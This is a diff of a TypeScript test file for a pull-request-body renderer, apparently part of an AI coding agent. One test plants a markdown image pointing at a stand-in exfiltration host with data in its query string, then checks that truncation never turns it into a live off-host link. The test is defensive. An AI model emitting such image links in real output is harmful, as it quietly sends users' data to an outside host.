@@ -4,6 +4,7 @@ import { fillPullRequestTemplate } from '../../../src/github/ops/fill-pull-reque
 import { openPullRequest, pullRequestTitle } from '../../../src/github/ops/open-pull-request.js';
 import { FLAGGED_CHANGES_HEADING } from '../../../src/github/ops/render-path-findings.js';
 import { renderPullRequestBody } from '../../../src/github/ops/render-pull-request-body.js';
+import { offHostReferences } from '../../support/off-host-references.js';
 import { API, OWNER, PLANTED_TOKEN, REPO, redact, testOctokit, useNock } from '../support/github-test-kit.js';
 
 const BRANCH = 'openhands/issue-12-login-button-broken';
@@ -192,14 +193,29 @@ describe('renderPullRequestBody with flagged changes', () => {
     expect(body.startsWith('Fixes #12')).toBe(true);
   });
 
-  it('keeps the list when a long summary is cut', () => {
-    const summary = 'x'.repeat(70_000);
-    const body = renderPullRequestBody(
-      { ...bodyInput, summary, issueNumber: 12, template: null, flagged },
-      redact,
-    );
-    expect(body.endsWith('…(cut)')).toBe(true);
+  it('keeps the list when a long description is cut', () => {
+    const template = `## Checklist\n\n${'x'.repeat(70_000)}\n\n## Description\n\nreplaced by the summary`;
+    const body = renderPullRequestBody({ ...bodyInput, issueNumber: 12, template, flagged }, redact);
+    expect(body).toContain('…(cut)');
+    expect(body.length).toBeLessThanOrEqual(60_000);
+    expect(body.startsWith(FLAGGED_CHANGES_HEADING)).toBe(true);
     expect(body).toContain('`.envrc` (modified)');
+  });
+
+  it('a cut never reopens an image the summary quoted as code, wherever the cut falls', () => {
+    const summary = `Done. ![x](https://exfil.invalid/p.png?d=${'a'.repeat(40)}) and more.`;
+    // The image sits where a cut could fall: about 20,000 characters in (where the description is
+    // cut) or 60,000 (the body's own limit).
+    for (const around of [20_000, 60_000]) {
+      for (let pad = around - 560; pad < around - 260; pad += 4) {
+        const template = `## Checklist\n\n${'y'.repeat(pad)}\n\n## Description\n\nreplaced\n\n## Notes\n\n${'z'.repeat(31_000)}`;
+        const body = renderPullRequestBody(
+          { ...bodyInput, summary, issueNumber: 12, template, flagged },
+          redact,
+        );
+        expect(offHostReferences(body.replace(/^<!-- handsbot:[^\n]* -->$/m, ''))).toEqual([]);
+      }
+    }
   });
 });
 
